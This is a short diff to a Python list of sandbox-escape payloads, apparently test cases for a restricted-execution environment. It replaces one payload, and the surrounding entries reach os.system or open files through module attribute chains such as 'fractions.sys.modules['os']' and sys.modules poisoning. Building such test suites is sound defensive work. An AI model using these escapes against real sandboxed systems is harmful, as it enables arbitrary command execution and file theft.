@@ -30,8 +30,8 @@ PAYLOADS = [
      "m = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\nm.system(@C@)"),
     ("json_codecs_open", "module_graph_sys_modules", "read_file",
      "import json\npwned = json.codecs.open(@S@).read()"),
-    ("statistics_sys", "module_graph_sys_modules", "run_command",
-     "import statistics\nstatistics.sys.modules['os'].system(@C@)"),
+    ("fractions_sys", "module_graph_sys_modules", "run_command",
+     "import fractions\nfractions.sys.modules['os'].system(@C@)"),
     ("sys_modules_poisoning", "module_graph_sys_modules", "run_command",
      "import json\njson.codecs.sys.modules['math'] = json.codecs.sys.modules['os']\n"
      "import math\nmath.system(@C@)"),
